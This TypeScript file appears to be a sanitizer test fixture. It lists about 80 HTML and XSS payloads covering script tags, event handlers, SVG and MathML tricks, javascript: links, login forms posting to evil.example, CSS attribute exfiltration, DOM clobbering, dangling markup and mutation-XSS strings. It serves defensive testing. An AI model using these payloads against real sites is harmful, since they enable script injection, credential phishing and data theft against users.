const AWAY = 'https://evil.example/'

/** `hurt()` is what a script of theirs would do. Each is a whole text by itself, however broken. */
const TEXTS: readonly string[] = [
  // Scripts
  '<script>hurt()</script>',
  `<script src="${AWAY}a.js"></script>`,
  '<scr<script>ipt>hurt()</scr</script>ipt>',
  '<script/x>hurt()</script/x>',
  '<svg><script>hurt()</script></svg>',
  '<svg><script href="data:text/javascript,hurt()"></script></svg>',
  '<math><script>hurt()</script></math>',
  `<link rel="modulepreload" href="${AWAY}a.js"><link rel="prefetch" href="${AWAY}b"><link rel="stylesheet" href="${AWAY}c.css">`,
  // Handlers
  '<img src="x" onerror="hurt()">',
  '<img src=x onerror=hurt()//',
  '<img src="/media/contact-qr.svg" onload="hurt()">',
  '<img/src/onerror=hurt()>',
  '<IMG SRC=x ONERROR="hurt()">',
  '<img src=x oneonerrorrror="hurt()" onerror\n=\n"hurt()">',
  '<p onclick="hurt()" onmouseover="hurt()" onpointerover="hurt()">tap</p>',
  '<input autofocus onfocus="hurt()">',
  '<details open ontoggle="hurt()"><summary>more</summary></details>',
  '<video src="x" onerror="hurt()"></video><audio src="x" onerror="hurt()"></audio>',
  '<video><source src="x" onerror="hurt()"></video>',
  '<body onload="hurt()" onpageshow="hurt()">',
  '<div style="animation:x 1ms" onanimationstart="hurt()">a</div><marquee onstart="hurt()">m</marquee>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend="hurt()">a</b>',
  '<a onfocus="hurt()" tabindex="0" autofocus>focus</a><xss contenteditable onbeforeinput="hurt()">x</xss>',
  '<div popover id="pop" onbeforetoggle="hurt()">x</div><button popovertarget="pop">open</button>',
  // SVG and MathML
  '<svg onload="hurt()"></svg>',
  '<svg><animate onbegin="hurt()" attributeName="x" dur="1s"></svg>',
  '<svg><a xlink:href="javascript:hurt()"><text y="20">tap</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:hurt()"></set></svg>',
  `<svg><use href="${AWAY}a.svg#a"></use><image href="${AWAY}b.png"></image></svg>`,
  '<svg><foreignObject><img src="x" onerror="hurt()"></foreignObject></svg>',
  `<svg><style>@import url(${AWAY}a.css);</style><rect fill="url(${AWAY}b.svg#c)"/></svg>`,
  '<math><mtext><img src="x" onerror="hurt()"></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:hurt()">tap</maction></math>',
  // Frames and objects
  `<iframe src="${AWAY}"></iframe>`,
  '<iframe srcdoc="<script>parent.hurt()</script>"></iframe>',
  '<iframe src="javascript:parent.hurt()"></iframe>',
  `<iframe src="data:text/html,<script src=${AWAY}frame.js></script>"></iframe>`,
  `<object data="${AWAY}a.swf"></object><embed src="${AWAY}b.swf"><applet code="${AWAY}c"></applet>`,
  '<object data="javascript:parent.hurt()"></object><embed src="javascript:hurt()">',
  `<portal src="${AWAY}"></portal><fencedframe></fencedframe><frameset><frame src="${AWAY}"></frameset>`,
  // Forms that ask for what they must not
  `<form action="${AWAY}"><input type="password" name="password"><button>Log in</button></form>`,
  `<form id="login"></form><button form="login" formaction="${AWAY}">Log in</button>`,
  '<form action="javascript:hurt()"><input type="submit" value="go"></form>',
  '<isindex action="javascript:hurt()"><textarea>type here</textarea><select><option>a</select>',
  `<input type="image" src="${AWAY}a.png" formaction="${AWAY}">`,
  // Where the page goes, and from where its addresses count
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  '<meta http-equiv="refresh" content="0;url=javascript:hurt()">',
  `<base href="${AWAY}"><img src="a.png"><a href="b">b</a>`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
  // Styles: overlays, and addresses in them
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session ended. Log in again.</div>',
  '<style>body *{display:none}</style><style>@import "https://evil.example/a.css";</style>',
  `<p style="background:url(${AWAY}a.png);list-style:url(${AWAY}b.png)">x</p>`,
  `<style>input[value^="a"]{background:url(${AWAY}a)}@font-face{font-family:x;src:url(${AWAY}f.woff2)}p{font-family:x}</style>`,
  '<p style="width:expression(hurt());behavior:url(#default#time2);-moz-binding:url(x)">x</p>',
  `<table background="${AWAY}a.png"><tr><td background="${AWAY}b.png">x</td></tr></table>`,
  // Names and ids that stand before those of the page
  '<p id="root">a</p><p id="body" name="body">b</p><a id="location" name="location">c</a>',
  '<form id="document" name="cookie"><input name="attributes"><input name="nodeName"></form>',
  '<img name="getElementById"><img name="createElement"><img id="trustedTypes">',
  '<a id="hurts"></a><a id="hurts" name="url" href="javascript:hurt()">x</a>',
  // Links
  '<a href="javascript:hurt()">tap</a>',
  '<a href="JaVaScRiPt:hurt()">tap</a><a href="java&#9;script:hurt()">tap</a><a href="&#1;javascript:hurt()">tap</a>',
  '<a href="data:text/html,<script>opener.hurt()</script>" target="_blank">tap</a><a href="vbscript:hurt()">tap</a>',
  `<a href="//evil.example/" ping="${AWAY}">tap</a><a href="/\\evil.example/" target="_top">tap</a>`,
  `<map name="m"><area href="javascript:hurt()" shape="default"></map><img usemap="#m" src="/media/contact-qr.svg">`,
  // Pictures that tell who looks
  `<img src="${AWAY}pixel.png"><img srcset="${AWAY}2x.png 2x"><picture><source srcset="${AWAY}s.png"><img></picture>`,
  `<video poster="${AWAY}poster.png"></video><audio src="${AWAY}a.mp3" autoplay></audio><track src="${AWAY}t.vtt">`,
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hurt()'/>\">",
  // Dangling markup
  `<img src='${AWAY}?`,
  `<a href="${AWAY}"><font size=100>Log in<!--`,
  '</div></div></main></body></html><script>hurt()</script><plaintext>',
  '<textarea><img title="</textarea><img src=x onerror=hurt()>">',
  // What becomes something else when it is parsed again
  '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
  '<svg></p><style><a id="</style><img src=x onerror=hurt()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt()>',
  '<svg><style><img src="</style><img src=x onerror=hurt()>"></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=hurt()>"></annotation-xml></math>',
  '<template><img src=x onerror=hurt()></template><p is="x-x">x</p>',
  '<div><template shadowrootmode="open"><img src=x onerror=hurt()></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=hurt()>">',
  '<select><iframe></select><img src=x onerror=hurt()>',
  '<a href="&#x6A;avascript&colon;hurt()">tap</a><img src=x onerror&#61;hurt()><![CDATA[<script>hurt()</script>]]>',
]

/**
 * HTML that an operator's account in the wrong hands could send: what runs in it calls `hurt` of the window with the number
 * of its text, and what it asks for is at evil.example.
 */
export const PAYLOADS: readonly string[] = TEXTS.map((text, number) => text.replaceAll('hurt()', `hurt(${number})`))
